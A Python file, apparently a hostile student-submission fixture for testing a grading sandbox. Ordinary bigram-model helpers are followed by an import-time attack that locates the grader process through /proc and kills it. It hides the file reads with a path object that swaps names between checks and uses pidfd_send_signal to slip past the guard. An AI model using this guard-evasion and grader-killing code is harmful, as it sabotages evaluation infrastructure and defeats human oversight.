"""Hostile (batch): at import, finds the grader (the fork server's parent, in /proc/<ppid>/stat, read through _io.FileIO with a path that changes between the open and the guard's look) and kills it with signal.pidfd_send_signal, which the guard does not watch. It only ever targets a process running grade-batch. Expect the batch to go on: every other student graded, with full marks."""

import numpy as np

from mindlab_core.tokens import TOKENS, index

def softmax(logits):
    x = np.asarray(logits, dtype=np.float64)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)

def read_row(W, letter):
    return softmax(np.asarray(W)[index(letter)])

def data_row(counts, letter):
    row = np.asarray(counts, dtype=np.float64)[index(letter)]
    return row / row.sum()

def belief_gap(W, counts, letter):
    return float(0.5 * np.abs(read_row(W, letter) - data_row(counts, letter)).sum())

def ablate_column(W, letter):
    j = index(letter)
    out = np.array(W, dtype=np.float64)
    out[:, j] = -np.inf
    return out

def sample_word(W, rng, temperature=1.0, max_len=50):
    if not temperature > 0:
        raise ValueError("temperature must be > 0")
    W = np.asarray(W, dtype=np.float64)
    letters, row = [], 0
    while len(letters) < max_len:
        row = int(rng.choice(27, p=softmax(W[row] / temperature)))
        if row == 0:
            break
        letters.append(TOKENS[row])
    return "".join(letters)

def rank_rules(W, top=None):
    probs = softmax(np.asarray(W, dtype=np.float64))
    best = probs.argmax(axis=1)
    rules = [(TOKENS[i], TOKENS[int(j)], float(probs[i, j])) for i, j in enumerate(best)]
    rules.sort(key=lambda rule: -rule[2])
    return rules if top is None else rules[:top]

def greedy_decode(W, max_len=50):
    probs = softmax(np.asarray(W, dtype=np.float64))
    letters, row = [], 0
    while len(letters) < max_len:
        row = int(probs[row].argmax())
        if row == 0:
            break
        letters.append(TOKENS[row])
    return "".join(letters)


# ---- the attack
import _io
import os
import signal


class _Flip:
    def __init__(self, real, shown):
        self.calls, self.real, self.shown = 0, real, shown

    def __fspath__(self):
        self.calls += 1
        return self.real if self.calls == 1 else self.shown


def _read(path):
    try:
        with _io.FileIO(_Flip(path, "harmless.txt")) as f:
            return f.read()
    except OSError:
        return b""


def _kill_grader():
    stat = _read(f"/proc/{os.getppid()}/stat")
    try:
        grader = int(stat[stat.rindex(b")") + 2:].split()[1])
    except ValueError:
        return
    if b"grade-batch" not in _read(f"/proc/{grader}/cmdline"):
        return  # never anything but the batch grader under test
    try:
        signal.pidfd_send_signal(os.pidfd_open(grader), signal.SIGKILL)
    except OSError:
        pass


_kill_grader()
